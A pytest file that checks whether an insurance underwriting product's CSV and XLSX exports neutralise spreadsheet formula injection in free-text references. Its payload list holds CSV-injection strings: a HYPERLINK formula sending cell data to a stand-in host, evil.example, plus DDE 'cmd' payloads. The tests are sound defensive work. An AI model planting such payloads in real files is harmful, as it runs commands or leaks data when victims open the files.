"""Attack: formula injection through the files the product writes.

An insurer's reference is free text. A reference such as ``=HYPERLINK("http://evil.example/?"&A1,"open")``
reached the regulator's CSV export and the batch results (CSV and XLSX) as a live formula, which runs when
the bureau's auditor or the insurer's clerk opens the file. Each test submits or uploads such references
through the product's own paths, downloads the real files and reads every cell back.
"""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from datetime import date
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from audit import roles
from insurer_portal.batches import COLUMNS
from insurer_portal.models import Batch, BatchRow
from tenants.models import Insurer
from tests.audit.test_roles import staff_client
from tests.portal.conftest import _portal_settings, underwriter, uw_client  # noqa: F401
from tests.underwriting.conftest import (  # noqa: F401
    ALICE_ID,
    ALICE_NAME,
    approved_manuals,
    author,
    client_for,
    insurer,
    request_body,
    reviewer,
)
from underwriting.downloads import spreadsheet_text
from underwriting.models import UnderwritingRequest

pytestmark = pytest.mark.django_db

# Each start a spreadsheet reads as a formula (OWASP "CSV Injection"), and the disguises around them.
PRINTABLE_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '＝HYPERLINK("http://evil.example/")',  # full-width equals sign  # noqa: RUF001
    "|calc",
    "%0A=1+1",
]
# Starts the API and the upload parser trim away today; written straight into rows, as a later path might.
WHITESPACE_PAYLOADS = ["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\x07=1+1"]


def live_formula(cell: Any) -> bool:
    """Would a spreadsheet evaluate this cell? (Leading whitespace skipped, full-width folded.)"""
    if not isinstance(cell, str) or not cell:
        return False
    head = unicodedata.normalize("NFKC", cell).lstrip(" \t\r\n\x07")
    return head[:1] in {"=", "+", "-", "@", "|"} or cell[:1] in {"\t", "\r", "\n"}


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_references_submitted_by_api_are_dead_text_in_the_regulators_export(
    approved_manuals: Any,  # noqa: F811
    insurer: Insurer,  # noqa: F811
    settings: Any,
) -> None:
    settings.UNDERWRITING_RATE_LIMIT_COUNT = 100
    settings.UNDERWRITING_SUBJECT_LIMIT_COUNT = 100
    settings.UNDERWRITING_SUBJECT_LIMIT_YEAR = 100
    api = client_for(insurer)
    applicant = {"resident_id": ALICE_ID, "name": ALICE_NAME}  # unknown to the domain: the request is kept
    for payload in PRINTABLE_PAYLOADS:
        response = api.post("/api/v1/underwriting-requests", request_body(applicant, reference=payload), format="json")
        assert response.status_code == 202, response.content
    for payload in WHITESPACE_PAYLOADS:
        UnderwritingRequest.objects.create(
            insurer=insurer, reference=payload, subject_key="e" * 64, resident_id_masked="110101********001X",
            manual_slug="charlson-acci", as_of=date(2026, 11, 23), status="completed",
        )  # fmt: skip
    references = set(UnderwritingRequest.objects.values_list("reference", flat=True))
    assert references == {*PRINTABLE_PAYLOADS, *WHITESPACE_PAYLOADS}

    auditor, _ = staff_client(roles.AUDITOR)
    response = auditor.post(
        "/admin/underwriting/underwritingrequest/",
        {
            "action": "export_csv",
            "_selected_action": [str(pk) for pk in UnderwritingRequest.objects.values_list("pk", flat=True)],
        },
    )
    assert response["Content-Type"] == "text/csv"
    rows = csv_cells(b"".join(response.streaming_content))  # type: ignore[attr-defined]
    assert rows[0][:2] == ["id", "reference"]
    assert len(rows) == 1 + len(references)
    live = [cell for row in rows for cell in row if live_formula(cell)]
    assert live == [], f"live formulas in the regulator's export: {live}"
    # Neutralised, not dropped: the auditor still reads what the insurer sent, after one apostrophe.
    # (defusedcsv also escapes a pipe, DDE's separator, as "\|".)
    exported = {row[1].removeprefix("'").replace("\\|", "|") for row in rows[1:]}
    assert exported == {*PRINTABLE_PAYLOADS, *WHITESPACE_PAYLOADS}


def batch_upload(client: Client, references: list[str]) -> Batch:
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(COLUMNS)
    for index, reference in enumerate(references):
        writer.writerow([reference, ALICE_ID, ALICE_NAME, "charlson-acci", f"C-{index}", "2026-01-01", "", "b" * 64])
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("applicants.csv", text.getvalue().encode("utf-8-sig"), content_type="text/csv")
    response = client.post("/portal/batches/", {"file": upload})
    assert response.status_code == 302, response.content[:500]
    return Batch.objects.get()


@pytest.fixture
def hostile_batch(uw_client: Client, approved_manuals: Any) -> Batch:  # noqa: F811
    batch = batch_upload(uw_client, PRINTABLE_PAYLOADS)
    assert set(batch.rows.values_list("reference", flat=True)) == set(PRINTABLE_PAYLOADS)
    BatchRow.objects.bulk_create(
        BatchRow(batch=batch, line=100 + index, reference=payload, manual_slug="charlson-acci", errors=[])
        for index, payload in enumerate(WHITESPACE_PAYLOADS)
    )
    return batch


def test_batch_results_csv_holds_no_live_formula(uw_client: Client, hostile_batch: Batch) -> None:  # noqa: F811
    response = uw_client.get(f"/portal/batches/{hostile_batch.pk}/results.csv")
    assert response.status_code == 200
    rows = csv_cells(response.content)
    assert len(rows) == 1 + len(PRINTABLE_PAYLOADS) + len(WHITESPACE_PAYLOADS)
    live = [cell for row in rows for cell in row if live_formula(cell)]
    assert live == [], f"live formulas in the batch results: {live}"


def test_batch_results_xlsx_holds_text_cells_only(uw_client: Client, hostile_batch: Batch) -> None:  # noqa: F811
    response = uw_client.get(f"/portal/batches/{hostile_batch.pk}/results.xlsx")
    assert response.status_code == 200  # a control character in a reference used to be a 500
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml, "the sheet stores a formula"
    assert "<f " not in sheet_xml, "the sheet stores a formula"
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    live = [cell.value for cell in cells if live_formula(cell.value)]
    assert live == [], f"live formulas in the XLSX results: {live}"
    references = {sheet.cell(row=index, column=2).value for index in range(2, sheet.max_row + 1)}
    assert "'" + PRINTABLE_PAYLOADS[0] in references


def test_the_batch_template_is_written_the_same_way(uw_client: Client) -> None:  # noqa: F811
    rows = csv_cells(uw_client.get("/portal/batches/template.csv").content)
    assert rows[0] == list(COLUMNS)
    assert not any(live_formula(cell) for row in rows for cell in row)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1", "'\t=1"),
        ("  +1", "'  +1"),
        ("＝1", "'＝1"),  # noqa: RUF001
        ("-12", "-12"),  # a plain negative number stays a number
        ("-1.5", "-1.5"),
        ("APP-1", "APP-1"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_spreadsheet_text(value: Any, expected: Any) -> None:
    assert spreadsheet_text(value) == expected
